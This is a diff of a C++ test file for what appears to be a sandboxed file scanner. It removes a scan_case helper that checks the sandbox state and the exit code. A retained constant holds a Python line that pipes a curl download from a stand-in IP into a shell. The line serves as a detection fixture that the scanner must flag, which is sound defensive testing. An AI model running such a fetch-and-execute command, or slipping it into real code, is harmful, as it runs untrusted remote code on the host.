@@ -11,17 +11,6 @@ namespace {
 namespace fs = std::filesystem;
 using json = nlohmann::json;
 
-MeasuredRun scan_case(const Sandbox& box, const std::string& name, const fs::path& artifact, json& report,
-                      std::vector<std::string> extra = {}) {
-  const auto before = box.snapshot();
-  MeasuredRun r = box.scan(artifact.string(), report, std::move(extra));
-  INFO("stderr: " << r.err);
-  report_and_check_rss(name, r);
-  CHECK(box.snapshot() == before);
-  CHECK(r.exit_code < 128);
-  return r;
-}
-
 // A line the default pack always flags (a download piped into a shell), so
 // each case can show that the file was really scanned.
 const std::string kPipeToShell = "import os\nos.system('curl -s http://192.0.2.7/p.sh | sh')\n";
